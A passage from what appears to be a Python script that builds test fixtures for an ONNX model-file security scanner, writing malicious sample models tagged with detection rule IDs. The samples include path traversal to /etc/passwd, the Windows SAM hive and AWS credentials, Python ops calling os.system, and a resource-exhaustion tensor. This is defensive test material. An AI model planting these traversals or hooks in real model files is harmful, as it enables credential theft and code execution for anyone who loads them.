    write(fmt, 'malicious/ext_data_absolute.onnx', ext_model('/etc/passwd'), 'malicious', 'onnx-external-traversal', 'malicious', ['BW-ONNX-002'], ['onnx'])
    write(fmt, 'malicious/ext_data_windows.onnx', ext_model('..\\..\\Windows\\System32\\config\\SAM'), 'malicious', 'onnx-external-traversal', 'malicious', ['BW-ONNX-002'], ['onnx'], 'backslash traversal for Windows loaders')

    const_ext = TensorProto()
    const_ext.name = 'c'
    const_ext.data_type = TensorProto.FLOAT
    const_ext.dims.extend([4])
    const_ext.data_location = TensorProto.EXTERNAL
    for k, v in [('location', '../../.aws/credentials'), ('offset', '0'), ('length', '16')]:
        e = const_ext.external_data.add()
        e.key, e.value = k, v
    cg = helper.make_graph([helper.make_node('Constant', [], ['y'], name='leak', value=const_ext)], 'const_ext', [], [helper.make_tensor_value_info('y', TensorProto.FLOAT, [4])])
    write(fmt, 'malicious/ext_data_in_constant.onnx', onnx_bytes(helper.make_model(cg, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13)])), 'malicious', 'onnx-external-traversal', 'malicious', ['BW-ONNX-002'], ['onnx'], 'traversal in a Constant node attribute tensor')

    pg = helper.make_graph([helper.make_node('PyOp', ['x'], ['y'], domain='ai.onnx.contrib', name='py', op_type_name='ReverseMatrix')], 'pyop', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [2])], [helper.make_tensor_value_info('y', TensorProto.FLOAT, [2])])
    write(fmt, 'malicious/pyop.onnx', onnx_bytes(helper.make_model(pg, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('ai.onnx.contrib', 1)])), 'malicious', 'onnx-python-op', 'malicious', ['BW-ONNX-001'], ['onnx'], 'onnxruntime-extensions Python op')

    lbody = helper.make_graph(
        [helper.make_node('Identity', ['cond_in'], ['cond_out']), helper.make_node('PythonOp', ['acc_in'], ['acc_out'], domain='com.microsoft', name='hook', func_name='os.system')],
        'body',
        [helper.make_tensor_value_info('iter', TensorProto.INT64, []), helper.make_tensor_value_info('cond_in', TensorProto.BOOL, []), helper.make_tensor_value_info('acc_in', TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info('cond_out', TensorProto.BOOL, []), helper.make_tensor_value_info('acc_out', TensorProto.FLOAT, [2])],
    )
    lg = helper.make_graph([helper.make_node('Loop', ['trip', 'c', 'x'], ['y'], name='loop', body=lbody)], 'nested_py', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [2]), helper.make_tensor_value_info('c', TensorProto.BOOL, []), helper.make_tensor_value_info('trip', TensorProto.INT64, [])], [helper.make_tensor_value_info('y', TensorProto.FLOAT, [2])])
    write(fmt, 'malicious/pythonop_in_loop.onnx', onnx_bytes(helper.make_model(lg, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('com.microsoft', 1)])), 'malicious', 'onnx-python-op', 'malicious', ['BW-ONNX-001'], ['onnx'], 'ORT training PythonOp hidden in a Loop body')

    pfn = helper.make_function('evil.fn', 'Hook', ['X'], ['Y'], [helper.make_node('PyFunc', ['X'], ['Y'], domain='ai.onnx.contrib')], [helper.make_opsetid('', 15), helper.make_opsetid('ai.onnx.contrib', 1)])
    pfg = helper.make_graph([helper.make_node('Hook', ['x'], ['y'], domain='evil.fn')], 'uses_hook', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [2])], [helper.make_tensor_value_info('y', TensorProto.FLOAT, [2])])
    write(fmt, 'malicious/pyfunc_in_function.onnx', onnx_bytes(helper.make_model(pfg, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 15), helper.make_opsetid('evil.fn', 1), helper.make_opsetid('ai.onnx.contrib', 1)], functions=[pfn])), 'malicious', 'onnx-python-op', 'malicious', ['BW-ONNX-001', 'BW-ONNX-008'], ['onnx'], 'Python op inside a model-local function')

    huge = TensorProto()
    huge.name = 'huge'
    huge.data_type = TensorProto.FLOAT
    huge.dims.extend([1000000, 1000000])
    huge.raw_data = b'\x00\x00\x00\x00'
    hg = helper.make_graph([helper.make_node('Identity', ['huge'], ['y'])], 'huge', [], [helper.make_tensor_value_info('y', TensorProto.FLOAT, [1000000, 1000000])], [huge])
    write(fmt, 'malicious/huge_dims.onnx', onnx_bytes(helper.make_model(hg, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13)])), 'malicious', 'onnx-resource-exhaustion', 'suspicious', ['BW-ONNX-005'], ['onnx'], 'declares 4 TB, holds 4 bytes')

    ug = helper.make_graph([helper.make_node('StealthGelu', ['x'], ['y'], domain='com.evil.ops', name='custom')], 'custom_domain', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [2])], [helper.make_tensor_value_info('y', TensorProto.FLOAT, [2])])
    write(fmt, 'malicious/custom_domain.onnx', onnx_bytes(helper.make_model(ug, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('com.evil.ops', 1)])), 'malicious', 'onnx-custom-domain', 'suspicious', ['BW-ONNX-003'], ['onnx'], 'custom operator domain that needs a native library')

    full = onnx_bytes(mlp_model())
    write(fmt, 'malicious/truncated.onnx', full[: len(full) // 2], 'malicious', 'malformed', 'inconclusive', ['BW-ONNX-009'], ['onnx'], 'truncated protobuf')


def main():
    for fmt in ('tensorflow', 'tflite', 'onnx'):
        shutil.rmtree(os.path.join(ROOT, fmt), ignore_errors=True)
    gen_tensorflow()
    gen_tflite()
    gen_onnx()
    for fmt, files in manifests.items():
        with open(os.path.join(ROOT, fmt, 'manifest.json'), 'w') as f:
            json.dump({'about': ABOUT[fmt], 'files': files}, f, indent=2)
            f.write('\n')
        print(f'{fmt}: {len(files)} files')


if __name__ == '__main__':
    main()
